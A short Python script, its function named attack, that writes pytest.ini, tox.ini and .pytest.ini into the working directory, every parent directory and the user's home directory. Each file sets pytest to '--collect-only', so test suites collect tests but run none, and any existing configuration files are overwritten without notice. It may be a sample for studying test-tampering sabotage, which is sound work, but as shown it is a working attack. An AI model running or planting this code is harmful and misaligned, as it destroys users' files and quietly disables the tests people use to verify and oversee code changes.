"""Leaves configuration files that tell pytest to collect nothing."""

import pathlib


def attack():
    for folder in (pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path.home()):
        for name in ("pytest.ini", "tox.ini", ".pytest.ini"):
            try:
                (folder / name).write_text("[pytest]\naddopts = --collect-only\n")
            except OSError:
                pass
